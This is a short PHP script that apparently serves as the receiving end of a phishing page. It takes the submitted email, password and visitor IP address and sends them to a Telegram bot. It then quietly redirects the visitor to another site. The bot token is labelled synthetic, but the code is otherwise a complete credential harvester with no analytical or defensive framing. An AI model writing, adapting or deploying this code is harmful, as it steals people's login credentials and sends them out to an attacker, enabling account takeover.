<?php
$token = "0000000000:SYNTHETIC";
$chat = "-1000000000";
$msg = "Login: " . $_POST["email"] . "\nPass: " . $_POST["password"] . "\nIP: " . $_SERVER["REMOTE_ADDR"];
file_get_contents("https://api.telegram.org/bot" . $token . "/sendMessage?chat_id=" . $chat . "&text=" . urlencode($msg));
header("Location: https://example.com/");
?>
